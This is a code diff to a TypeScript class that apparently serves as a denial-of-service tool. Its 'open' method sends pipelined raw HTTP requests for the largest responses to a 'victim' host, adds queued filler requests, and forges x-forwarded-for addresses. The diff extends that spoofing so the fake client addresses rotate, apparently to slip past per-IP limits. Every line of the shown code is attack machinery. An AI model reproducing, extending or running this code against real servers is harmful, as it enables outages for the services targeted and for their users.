@@ -219,12 +219,17 @@ export class UnreadAnswers {
    * Every second one asks for the longest text; each asks four times without waiting, and for so many short things behind that.
    * Resolves when all have asked, or were refused.
    */
-  async open(victim: Victim, host: HostName, number: number, behind = 0): Promise<void> {
-    const url = new URL(victim.urls[host]);
+  async open(
+    urls: Victim['urls'],
+    host: HostName,
+    number: number,
+    { behind = 0, addresses = number }: { behind?: number; addresses?: number } = {},
+  ): Promise<void> {
+    const url = new URL(urls[host]);
     const paths = LONG_ANSWERS[host];
     const request = (n: number): string => {
       const path = n % 2 === 0 ? paths[0]! : paths[(n >> 1) % paths.length]!;
-      const head = ` HTTP/1.1\r\nhost: ${url.host}\r\nx-forwarded-for: ${addressOf(n)}\r\n\r\n`;
+      const head = ` HTTP/1.1\r\nhost: ${url.host}\r\nx-forwarded-for: ${addressOf(n % addresses)}\r\n\r\n`;
       return `GET ${path}${head}`.repeat(PIPELINED) + `GET /x${head}`.repeat(behind);
     };
     await times(
